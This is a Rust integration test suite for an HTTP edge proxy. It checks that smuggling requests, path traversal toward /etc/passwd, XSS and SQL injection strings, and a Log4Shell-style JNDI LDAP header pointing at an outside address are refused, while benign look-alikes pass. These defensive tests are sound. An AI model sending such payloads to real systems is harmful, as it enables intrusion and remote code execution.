//! The edge's HTTP hygiene seen from raw sockets: smuggling shapes hyper would accept,
//! URL normalisation, trusted client addresses and address lists, head screening.
//! Each refusal sits next to a look-alike request that must pass.

use std::time::{Duration, Instant};

use rampart_test_support::backend::Backend;
use rampart_test_support::client::raw;
use rampart_test_support::stack::{Stack, StackOptions};

use crate::common::bins;

fn status_of(reply: &str) -> u16 {
    reply
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn smuggling_shapes_are_refused_and_nothing_reaches_the_backend() {
    let backend = Backend::start().await;
    let stack = Stack::start(&bins(), &StackOptions::new(backend.url()));
    let long_ext = format!(
        "POST /count HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n5;{}\r\nhello\r\n0\r\n\r\n",
        "x".repeat(10 * 1024)
    );
    let cases: Vec<(String, u16)> = vec![
        (
            "POST /count HTTP/1.1\r\nHost: a.test\r\nContent-Length: 5\r\nContent-Length: 5\r\n\r\nhello".into(),
            400,
        ),
        (
            "POST /count HTTP/1.1\r\nHost: a.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n".into(),
            400,
        ),
        (long_ext, 400),
        // Look-alikes: one Content-Length, a plain chunked body with a short extension.
        (
            "POST /count HTTP/1.1\r\nHost: a.test\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello".into(),
            200,
        ),
        (
            "POST /count HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5;name=v\r\nhello\r\n0\r\n\r\n".into(),
            200,
        ),
    ];
    for (request, want) in &cases {
        let reply = raw(stack.http(), request.as_bytes(), Duration::from_secs(5)).await;
        assert_eq!(
            status_of(&reply),
            *want,
            "{}\n---\n{reply}",
            &request[..60.min(request.len())]
        );
        if *want == 400 {
            assert!(
                reply.to_ascii_lowercase().contains("connection: close"),
                "{reply}"
            );
        }
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(
        backend.bodies().len(),
        2,
        "only the look-alikes reach the backend"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn paths_are_normalised_once_and_the_backend_sees_exactly_that() {
    let backend = Backend::start().await;
    let stack = Stack::start(&bins(), &StackOptions::new(backend.url()));
    // Refused targets: ambiguous encodings are 400, unless what they hide is an attack,
    // which is the more serious finding (403).
    let cases: [(&str, Result<&str, u16>); 8] = [
        ("/a/b/../c?x=1", Ok("/a/c?x=1")),
        ("/a//b/./c", Ok("/a/b/c")),
        ("/files/report..pdf", Ok("/files/report..pdf")),
        ("/caf%C3%A9", Ok("/caf%C3%A9")),
        ("/%2e%2e/etc/passwd", Err(403)),
        ("/a%2Fb", Err(400)),
        ("/%252e%252e/x", Err(403)),
        ("/%C0%AE%C0%AE/x", Err(403)),
    ];
    for (target, want) in cases {
        let request = format!("GET {target} HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\n\r\n");
        let reply = raw(stack.http(), request.as_bytes(), Duration::from_secs(5)).await;
        match want {
            Ok(path) => {
                assert_eq!(status_of(&reply), 200, "{target}: {reply}");
                let echoed = format!("x-echo-uri: {path}\r\n");
                assert!(
                    reply
                        .to_ascii_lowercase()
                        .contains(&echoed.to_ascii_lowercase()),
                    "{target}: {reply}"
                );
            }
            Err(status) => {
                assert_eq!(status_of(&reply), status, "{target}: {reply}");
                assert!(!reply.contains("passwd"), "input reflected: {reply}");
            }
        }
    }
    assert_eq!(
        backend.seen().len(),
        4,
        "refused targets never reach the backend"
    );
}

fn get_with(headers: &str) -> String {
    format!("GET /x HTTP/1.1\r\nHost: a.test\r\n{headers}Connection: close\r\n\r\n")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forwarded_addresses_count_only_from_trusted_proxies() {
    let backend = Backend::start().await;
    // Default: the socket address; a spoofed X-Forwarded-For changes nothing.
    let stack = Stack::start(&bins(), &StackOptions::new(backend.url()));
    let reply = raw(
        stack.http(),
        get_with("X-Forwarded-For: 203.0.113.7\r\n").as_bytes(),
        Duration::from_secs(5),
    )
    .await;
    assert_eq!(status_of(&reply), 200, "{reply}");
    assert!(
        reply.contains("\"x-forwarded-for\",\"127.0.0.1\""),
        "{reply}"
    );
    assert!(
        !reply.contains("203.0.113.7"),
        "spoofed address forwarded: {reply}"
    );

    // Behind a trusted proxy on loopback, the header decides, and the deny list applies.
    let mut opts = StackOptions::new(backend.url());
    opts.edge_extra = r#"
[client_ip]
source = "x-forwarded-for"
trusted_proxies = ["127.0.0.0/8"]

[ip_policy]
deny = ["203.0.113.0/24"]
"#
    .into();
    let stack = Stack::start(&bins(), &opts);
    let cases = [
        ("X-Forwarded-For: 203.0.113.7\r\n", 403),
        ("X-Forwarded-For: 198.51.100.1\r\n", 200),
        ("X-Forwarded-For: 203.0.113.7, 198.51.100.1\r\n", 200), // the last untrusted hop counts
        ("", 200),                                               // the proxy itself
    ];
    for (headers, want) in cases {
        let reply = raw(
            stack.http(),
            get_with(headers).as_bytes(),
            Duration::from_secs(5),
        )
        .await;
        assert_eq!(status_of(&reply), want, "{headers}: {reply}");
        if want == 403 {
            assert!(reply.contains("\"address-denied\""), "{reply}");
        }
    }
    let denied: Vec<_> = stack
        .edge
        .logs()
        .into_iter()
        .filter(|l| l["target"] == "rampart::audit" && l["check"] == "ip-policy")
        .collect();
    assert_eq!(denied.len(), 1, "one audit record for the one denial");
    assert_eq!(denied[0]["client"], "203.0.113.7");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_allow_list_file_closes_other_clients_before_tls_and_reloads_atomically() {
    let backend = Backend::start().await;
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("partners.txt");
    std::fs::write(&list, "# partners\n192.0.2.0/24 ; lab\n").unwrap();
    let mut opts = StackOptions::new(backend.url());
    opts.edge_extra = format!(
        "[ip_lists]\nreload_interval = \"100ms\"\n[ip_lists.files]\npartners = {:?}\n\n[ip_policy]\nallow = [\"partners\"]\n",
        list.display().to_string()
    );
    let stack = Stack::start(&bins(), &opts);
    let reply = raw(
        stack.http(),
        get_with("").as_bytes(),
        Duration::from_secs(5),
    )
    .await;
    assert!(reply.is_empty(), "loopback is not a partner: {reply}");

    std::fs::write(&list, "192.0.2.0/24\n127.0.0.1\n").unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let reply = raw(
            stack.http(),
            get_with("").as_bytes(),
            Duration::from_secs(5),
        )
        .await;
        if status_of(&reply) == 200 {
            break;
        }
        assert!(Instant::now() < deadline, "reload never took effect");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // A broken file keeps the last good list.
    std::fs::write(&list, "not-an-address\n").unwrap();
    tokio::time::sleep(Duration::from_millis(600)).await;
    let reply = raw(
        stack.http(),
        get_with("").as_bytes(),
        Duration::from_secs(5),
    )
    .await;
    assert_eq!(status_of(&reply), 200, "{reply}");
    assert!(
        !stack
            .edge
            .logs_containing("keeping the previous list")
            .is_empty(),
        "the refused file is reported"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn head_screening_blocks_attacks_and_detect_only_routes_report_them() {
    let backend = Backend::start().await;
    let mut opts = StackOptions::new(backend.url());
    // The inner tier screens the head too; the tuning route reports there as well.
    opts.routes.push_str(
        "[[routes]]\nname = \"tuning\"\npath_prefix = \"/tuning\"\nupstream = \"app\"\ninspection = { mode = \"detect\" }\n",
    );
    opts.edge_extra = r#"
[[routes]]
name = "tuning"
path_prefix = "/tuning"
screening = { mode = "detect" }
"#
    .into();
    let stack = Stack::start(&bins(), &opts);
    let cases = [
        ("/search?q=select+your+plan", "", 200),
        ("/authors?name=O%27Reilly", "", 200),
        ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", 403),
        ("/items?id=1%27%20OR%20%271%27%3D%271", "", 403),
        ("/x", "X-Api-Version: ${jndi:ldap://203.0.113.9/a}\r\n", 403),
        (
            "/x",
            "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0\r\n",
            200,
        ),
        (
            "/tuning/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "",
            200,
        ),
    ];
    for (target, headers, want) in cases {
        let request =
            format!("GET {target} HTTP/1.1\r\nHost: a.test\r\n{headers}Connection: close\r\n\r\n");
        let reply = raw(stack.http(), request.as_bytes(), Duration::from_secs(5)).await;
        assert_eq!(status_of(&reply), want, "{target} {headers}: {reply}");
        if want == 403 {
            assert!(reply.contains("\"attack-detected\""), "{reply}");
            assert!(
                !reply.contains("script") && !reply.contains("jndi"),
                "reflected: {reply}"
            );
        }
    }
    let reported = stack
        .edge
        .logs()
        .into_iter()
        .filter(|l| l["target"] == "rampart::audit" && l["action"] == "report")
        .count();
    assert!(reported >= 1, "the detect-only hit is reported");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn raw_target_bytes_hyper_refuses_reach_the_edge_checks() {
    let backend = Backend::start().await;
    let stack = Stack::start(&bins(), &StackOptions::new(backend.url()));
    // Sent raw, as scanners do: the edge escapes them, then normalises and screens.
    let cases: [(&[u8], u16); 5] = [
        (b"/search?q=<script>alert(1)</script>", 403),
        (b"/search?filter={\"a\":1}", 200),
        (b"/search?q=caf\xc3\xa9", 200),
        (b"/search?q=a\x00b", 400),
        (b"/search?q=a\x01b", 400),
    ];
    for (target, want) in cases {
        let request = [
            b"GET ".as_slice(),
            target,
            b" HTTP/1.1\r\nHost: a.test\r\nConnection: close\r\n\r\n",
        ]
        .concat();
        let reply = raw(stack.http(), &request, Duration::from_secs(5)).await;
        let shown = String::from_utf8_lossy(target);
        assert_eq!(status_of(&reply), want, "{shown}: {reply}");
        if want == 403 {
            assert!(reply.contains("\"attack-detected\""), "{reply}");
        }
    }
}
